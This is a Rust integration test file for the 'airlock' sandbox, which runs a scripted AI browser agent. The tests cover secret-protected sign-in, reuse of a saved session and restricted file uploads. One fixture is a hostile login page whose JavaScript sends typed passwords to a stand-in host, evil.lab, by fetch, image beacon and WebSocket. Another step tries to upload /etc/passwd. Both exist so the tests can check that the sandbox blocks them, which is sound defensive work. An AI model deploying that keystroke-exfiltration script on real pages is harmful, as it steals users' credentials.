@@ -1,0 +1,287 @@
+//! Work on real accounts, end to end: the real `airlock` binary, image, Chromium and
+//! agent-browser, a scripted worker, lab sites under lab names (the proxy's `--nameserver`):
+//! signing in with a secret the worker never sees, starting from a saved session, uploading a
+//! caller's file.
+
+// Scenario tests read top to bottom; splitting them would hide the story.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::too_many_lines)]
+
+mod support;
+
+use std::collections::HashMap;
+use std::net::Ipv4Addr;
+use std::process::Command;
+
+use airlock_testkit::dns::dns;
+use airlock_testkit::docker::docker_ready;
+use airlock_testkit::site::site;
+use base64::Engine;
+use serde_json::json;
+use support::scripted::{call, no_task_containers_left, page, refusals, strs, task};
+
+#[test]
+fn scenario_10_a_worker_signs_in_with_a_secret_it_never_sees() {
+    if !docker_ready() {
+        return;
+    }
+    let password = "correct horse & \"battery\" <staple>'é";
+    // The hostile (in-scope) login page shows what is typed and tries to send it elsewhere.
+    let (evil, evil_seen) = site(|_| HashMap::from([("/", page("evil"))]));
+    let hostile = format!(
+        "document.getElementById('password').addEventListener('input', (e) => {{ \
+           const v = e.target.value; document.getElementById('echo').textContent = 'you typed ' + v; \
+           fetch('http://evil.lab:{evil}/steal?p=' + encodeURIComponent(v)).catch(() => {{}}); \
+           new Image().src = 'http://evil.lab:{evil}/img?p=' + btoa(unescape(encodeURIComponent(v))); \
+           try {{ new WebSocket('ws://evil.lab:{evil}/ws?p=' + encodeURIComponent(v)); }} catch (x) {{}} }});"
+    );
+    let (port, posted) = airlock_testkit::login::login_site("member", password, &hostile);
+    let resolver = dns(HashMap::from([
+        ("shop.lab", vec![Ipv4Addr::LOCALHOST]),
+        ("evil.lab", vec![Ipv4Addr::LOCALHOST]),
+    ]));
+    let dir = tempfile::tempdir().unwrap();
+    let secret_file = dir.path().join("shop-password");
+    std::fs::write(&secret_file, format!("{password}\n")).unwrap();
+    let shop = format!("http://shop.lab:{port}");
+    let script = json!({"turns": [
+        {"expect": {"system_contains": ["`shop_pw` (for shop.lab)"]},
+         "tool_calls": [call(&json!(["open", format!("{shop}/login")]))]},
+        {"tool_calls": [call(&json!(["fill", "#user", "member"]))]},
+        {"tool_calls": [call(&json!(["fill", "#password", "{{secret:shop_pw}}"]))]},
+        {"expect": {"shown_contains": ["Typed secret `shop_pw` into the password field."]},
+         "tool_calls": [call(&json!(["wait", "1000"]))]},
+        {"tool_calls": [call(&json!(["get", "text", "#echo"]))]},
+        {"expect": {"shown_contains": ["you typed [secret:shop_pw]"], "shown_not_contains": [password]},
+         "tool_calls": [call(&json!(["eval", "document.getElementById('password').value"]))]},
+        {"expect": {"shown_contains": ["not available while this task holds secrets"]},
+         "tool_calls": [call(&json!(["click", "#go"]))]},
+        {"tool_calls": [call(&json!(["wait", "--url", "**/account"]))]},
+        {"tool_calls": [call(&json!(["get", "text", "#welcome"]))]},
+        {"expect": {"shown_contains": ["Welcome back, member"]},
+         "tool_calls": [call(&json!(["open", format!("http://evil.lab:{evil}/")]))]},
+        {"tool_calls": [call(&json!(["fill", "#password", "{{secret:shop_pw}}"]))]},
+        {"expect": {"shown_contains": ["Refused", "`shop_pw`"]},
+         "text": "Signed in; the account page says Welcome back, member."}
+    ]});
+    let (result, output) = task(
+        dir.path(),
+        &script,
+        &[
+            "--allow",
+            &format!("127.0.0.1:{port}"),
+            "--allow",
+            &format!("127.0.0.1:{evil}"),
+            "--nameserver",
+            &format!("127.0.0.1:{resolver}"),
+            "--allowed-domain",
+            "shop.lab",
+            "--secret",
+            &format!("shop_pw@shop.lab=file:{}", secret_file.display()),
+        ],
+    );
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(
+        result["ended"],
+        "completed",
+        "{result}\n{stderr}\nposted: {} forms",
+        posted.lock().unwrap().len()
+    );
+    // The site got the exact password; the page's attempts to send it elsewhere reached nothing.
+    let forms = posted.lock().unwrap().clone();
+    assert_eq!(forms.len(), 1, "{forms:?}");
+    assert_eq!(forms[0]["password"], password);
+    assert!(
+        evil_seen.lock().unwrap().is_empty(),
+        "evil.lab heard the page"
+    );
+    let refused = refusals(&result, "target");
+    assert!(
+        refused.iter().any(|t| t.contains("evil.lab")),
+        "{refused:#?}"
+    );
+    // No output anywhere carries the password in any common spelling.
+    let b64 = base64::engine::general_purpose::STANDARD.encode(password);
+    let spellings = [
+        password.to_owned(),
+        percent_encoding::utf8_percent_encode(password, percent_encoding::NON_ALPHANUMERIC)
+            .to_string(),
+        serde_json::to_string(password).unwrap(),
+        b64.trim_end_matches('=').to_owned(),
+        password
+            .replace('&', "&amp;")
+            .replace('"', "&quot;")
+            .replace('<', "&lt;"),
+    ];
+    for spelling in &spellings {
+        for (what, text) in [("result JSON", &stdout), ("log", &stderr)] {
+            assert!(
+                !text.contains(spelling.as_str()),
+                "the {what} holds the password as {spelling}"
+            );
+        }
+    }
+    no_task_containers_left();
+}
+
+#[test]
+fn scenario_11_a_second_task_starts_signed_in_from_the_first_ones_state() {
+    if !docker_ready() {
+        return;
+    }
+    let password = "state-pa55word";
+    let (port, posted) = airlock_testkit::login::login_site("member", password, "");
+    let resolver = dns(HashMap::from([("shop.lab", vec![Ipv4Addr::LOCALHOST])]));
+    let dir = tempfile::tempdir().unwrap();
+    let secret_file = dir.path().join("pw");
+    std::fs::write(&secret_file, password).unwrap();
+    let state_file = dir.path().join("state.json");
+    let shop = format!("http://shop.lab:{port}");
+    let common = [
+        "--allow".to_owned(),
+        format!("127.0.0.1:{port}"),
+        "--nameserver".to_owned(),
+        format!("127.0.0.1:{resolver}"),
+        "--allowed-domain".to_owned(),
+        "shop.lab".to_owned(),
+    ];
+    let with = |extra: &[String]| -> Vec<String> { common.iter().chain(extra).cloned().collect() };
+    let sign_in = json!({"turns": [
+        {"tool_calls": [call(&json!(["open", format!("{shop}/login")]))]},
+        {"tool_calls": [call(&json!(["fill", "#user", "member"]))]},
+        {"tool_calls": [call(&json!(["fill", "#password", "{{secret:pw}}"]))]},
+        {"tool_calls": [call(&json!(["click", "#go"]))]},
+        {"tool_calls": [call(&json!(["wait", "--url", "**/account"]))]},
+        {"text": "Signed in."}
+    ]});
+    let first = with(&[
+        "--secret".to_owned(),
+        format!("pw@shop.lab=file:{}", secret_file.display()),
+        "--save-state".to_owned(),
+        state_file.display().to_string(),
+    ]);
+    let (result, output) = task(dir.path(), &sign_in, &strs(&first));
+    assert_eq!(
+        result["ended"],
+        "completed",
+        "{result}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert!(
+        result.get("state").is_none(),
+        "the state went to stdout: {result}"
+    );
+    let saved = std::fs::read_to_string(&state_file).unwrap();
+    assert!(
+        saved.contains(airlock_testkit::login::SESSION.split('=').nth(1).unwrap()),
+        "{saved}"
+    );
+    let mode = std::os::unix::fs::PermissionsExt::mode(
+        &std::fs::metadata(&state_file).unwrap().permissions(),
+    );
+    assert_eq!(mode & 0o777, 0o600);
+
+    // The second task goes straight to the account page: the cookie came with the state.
+    let read = json!({"turns": [
+        {"tool_calls": [call(&json!(["open", format!("{shop}/account")]))]},
+        {"tool_calls": [call(&json!(["get", "text", "#welcome"]))]},
+        {"expect": {"shown_contains": ["Welcome back, member"], "shown_not_contains": ["lab-session-7f3a9c"]},
+         "tool_calls": [call(&json!(["get", "text", "body"]))]},
+        {"text": "Already signed in."}
+    ]});
+    let second = with(&["--state".to_owned(), state_file.display().to_string()]);
+    let (result, output) = task(dir.path(), &read, &strs(&second));
+    assert_eq!(
+        result["ended"],
+        "completed",
+        "{result}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert_eq!(
+        posted.lock().unwrap().len(),
+        1,
+        "the second task signed in again"
+    );
+
+    // A state whose cookie lies outside the scope is refused, naming the cookie.
+    let outside = dir.path().join("outside.json");
+    std::fs::write(
+        &outside,
+        json!({"cookies": [{"name": "track", "value": "v-123456", "domain": "tracker.lab", "path": "/"}], "origins": []}).to_string(),
+    )
+    .unwrap();
+    let refused = Command::new(assert_cmd::cargo::cargo_bin("airlock"))
+        .args([
+            "task",
+            "Go",
+            "--model",
+            "script:/nonexistent.json",
+            "--state",
+        ])
+        .arg(&outside)
+        .args(strs(&common))
+        .env("AIRLOCK_CONFIG", "/nonexistent/airlock.toml")
+        .output()
+        .unwrap();
+    assert_eq!(refused.status.code(), Some(2));
+    let stderr = String::from_utf8_lossy(&refused.stderr);
+    assert!(
+        stderr.contains("cookie `track` for tracker.lab") && !stderr.contains("v-123456"),
+        "{stderr}"
+    );
+    no_task_containers_left();
+}
+
+#[test]
+fn a_callers_file_is_uploaded_by_name_and_nothing_else_can_be() {
+    if !docker_ready() {
+        return;
+    }
+    let (port, received) = airlock_testkit::login::upload_site();
+    let resolver = dns(HashMap::from([("forms.lab", vec![Ipv4Addr::LOCALHOST])]));
+    let dir = tempfile::tempdir().unwrap();
+    // Bytes a text field could never carry: every byte value, twice.
+    let bytes: Vec<u8> = (0..=255u8).chain(0..=255u8).collect();
+    let file = dir.path().join("report.bin");
+    std::fs::write(&file, &bytes).unwrap();
+    let form = format!("http://forms.lab:{port}/upload");
+    let script = json!({"turns": [
+        {"expect": {"system_contains": ["report.bin (512 bytes)"]},
+         "tool_calls": [call(&json!(["open", form]))]},
+        {"tool_calls": [call(&json!(["upload", "#file", "/etc/passwd"]))]},
+        {"expect": {"shown_contains": ["is not one of this task's files"]},
+         "tool_calls": [call(&json!(["upload", "#file", "report.bin"]))]},
+        {"expect": {"shown_contains": ["Uploaded report.bin (512 bytes) into #file."]},
+         "tool_calls": [call(&json!(["click", "#send"]))]},
+        {"tool_calls": [call(&json!(["wait", "--text", "received"]))]},
+        {"tool_calls": [call(&json!(["get", "text", "#got"]))]},
+        {"expect": {"shown_contains": ["received"]}, "text": "Sent."}
+    ]});
+    let args = [
+        "--allow".to_owned(),
+        format!("127.0.0.1:{port}"),
+        "--nameserver".to_owned(),
+        format!("127.0.0.1:{resolver}"),
+        "--allowed-domain".to_owned(),
+        "forms.lab".to_owned(),
+        "--file".to_owned(),
+        file.display().to_string(),
+    ];
+    let (result, output) = task(dir.path(), &script, &strs(&args));
+    assert_eq!(
+        result["ended"],
+        "completed",
+        "{result}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let bodies = received.lock().unwrap().clone();
+    assert_eq!(bodies.len(), 1);
+    // The multipart body carries the file's exact bytes.
+    assert!(
+        bodies[0]
+            .windows(bytes.len())
+            .any(|w| w == bytes.as_slice()),
+        "the site did not receive the file's exact bytes"
+    );
+    no_task_containers_left();
+}
